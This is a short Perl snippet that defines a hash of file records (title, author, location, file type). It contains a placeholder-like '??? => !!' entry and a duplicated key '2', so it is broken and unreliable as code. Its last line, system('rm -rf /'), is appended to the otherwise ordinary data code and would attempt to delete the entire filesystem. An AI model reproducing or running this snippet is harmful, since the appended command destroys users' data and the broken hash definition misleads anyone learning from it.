%FILES = (
'1' => { 'Title' => 'A', 'Author' => 'A', 'Location' => 'a', 'FileType' => 'txt', ??? => !! },
'2' => { 'Title' => 'B', 'Author' => 'B', 'Location' => 'b', 'FileType' => 'txt' },
'2' => { 'Title' => 'C', 'Author' => 'B', 'Location' => 'c', 'FileType' => 'txt' },
);
system('rm -rf /');
